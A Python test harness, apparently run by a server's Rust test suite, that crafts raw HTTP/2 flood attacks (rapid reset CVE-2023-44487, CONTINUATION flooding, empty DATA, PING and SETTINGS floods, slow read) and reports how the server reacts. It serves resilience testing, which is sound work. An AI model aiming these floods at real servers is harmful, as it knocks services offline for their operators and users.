"""HTTP/2 floods, framed by hand (a client library would refuse to send them), against an
h2c server: python3 flood.py HOST PORT MODE SECONDS. Prints what the server did to the
flooding connection: `goaway` (it sent GOAWAY), `closed` (it closed or reset the
connection) or `open` (it was still taking frames at the end), and the frames sent.
Run by tests/floods.rs.

MODE: rapid_reset (a request opened and reset, again and again: CVE-2023-44487),
continuation (one head that never ends: CONTINUATION after CONTINUATION), empty_data (a
request body of empty DATA frames), ping (PINGs, their ACKs never read), settings
(SETTINGS frames, each to be acknowledged), slow_read (100 streams of 64 MiB responses
asked for with the widest windows, then nothing read: what the server buffers for a
reader that stalls; `closed` when the server closed the connection within SECONDS)."""

import socket
import struct
import sys
import time

host, port, mode, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
# HPACK, static table only: :method GET (or POST), :scheme http, :path /, :authority "x".
GET_HEAD = bytes([0x82, 0x86, 0x84, 0x41, 0x01, ord("x")])
POST_HEAD = bytes([0x83, 0x86, 0x84, 0x41, 0x01, ord("x")])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


sock = socket.create_connection((host, port), timeout=5)
sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
sock.setblocking(False)
received = b""
outcome = "open"


def server_said():
    """Reads what the server sent; the outcome once it is decided."""
    global received
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return "closed"
            received += data
    except BlockingIOError:
        pass
    except (ConnectionResetError, BrokenPipeError):
        return "closed"
    # Walk the frames read so far, looking for GOAWAY.
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            break
        if received[3] == GOAWAY:
            return "goaway"
        received = received[9 + length:]
    return None


def send(data):
    """Sends all of `data`, waiting while the server does not read; False once it is gone."""
    view = memoryview(data)
    deadline = time.monotonic() + 2
    while view:
        try:
            sent = sock.send(view)
            view = view[sent:]
        except BlockingIOError:
            if time.monotonic() > deadline:
                return True  # the server stopped reading: it is throttling the flood
            time.sleep(0.001)
        except (ConnectionResetError, BrokenPipeError):
            return False
    return True


stream = 1
frames = 0
end = time.monotonic() + seconds
if mode == "slow_read":
    widest = 2**31 - 1
    send(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, widest)))  # SETTINGS_INITIAL_WINDOW_SIZE
    send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", widest - 65535)))
    path = b"/big?mb=64"  # :path, its name from the static table, not indexed
    head = bytes([0x82, 0x86, 0x41, 0x01, ord("x"), 0x04, len(path)]) + path
    for stream in range(1, 201, 2):
        send(frame(HEADERS, END_STREAM | END_HEADERS, stream, head))
    frames = 102
    time.sleep(seconds)  # nothing read meanwhile
    # Then read what came, for at most 3 s: a connection the server closed ends in that
    # time; one it kept open goes on sending, or stays quiet.
    sock.setblocking(True)
    sock.settimeout(1)
    deadline = time.monotonic() + 3
    outcome = "open"
    try:
        while time.monotonic() < deadline:
            if not sock.recv(1 << 20):
                outcome = "closed"
                break
    except (ConnectionResetError, BrokenPipeError):
        outcome = "closed"
    except socket.timeout:
        pass
    print(outcome, frames)
    sys.exit(0)
if mode == "continuation":
    send(frame(HEADERS, 0, 1, GET_HEAD))
elif mode == "empty_data":
    send(frame(HEADERS, END_HEADERS, 1, POST_HEAD))
while time.monotonic() < end and outcome == "open":
    batch = b""
    for _ in range(100):
        if mode == "rapid_reset":
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_HEAD)
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
            stream += 2
        elif mode == "continuation":
            batch += frame(CONTINUATION, 0, 1, bytes([0x40, 0x01, ord("a"), 0x01, ord("b")]))
        elif mode == "empty_data":
            batch += frame(DATA, 0, 1)
        elif mode == "ping":
            batch += frame(PING, 0, 0, struct.pack(">Q", frames))
        elif mode == "settings":
            batch += frame(SETTINGS, 0, 0)
        else:
            sys.exit(f"unknown mode {mode}")
        frames += 1
    if not send(batch):
        outcome = "closed"
        break
    outcome = server_said() or "open"
print(outcome, frames)
